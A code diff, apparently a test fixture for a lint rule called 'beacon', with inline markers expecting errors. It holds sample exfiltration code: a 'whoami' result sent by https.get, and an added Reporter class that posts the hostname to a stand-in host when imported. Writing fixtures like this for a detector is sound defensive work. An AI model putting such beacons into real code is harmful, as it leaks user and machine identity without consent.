@@ -37,3 +37,14 @@ exec('whoami', (_error, user) => {
   https.get('https://collect.example.invalid/?u=' + user);
   //<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
 });
+
+class Reporter {
+  private readonly answer: unknown;
+
+  constructor(host: string) {
+    this.answer = axios.get('https://collect.example.invalid/r', { params: { host } });
+    //            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ beacon: error
+  }
+}
+
+export default new Reporter(os.hostname());
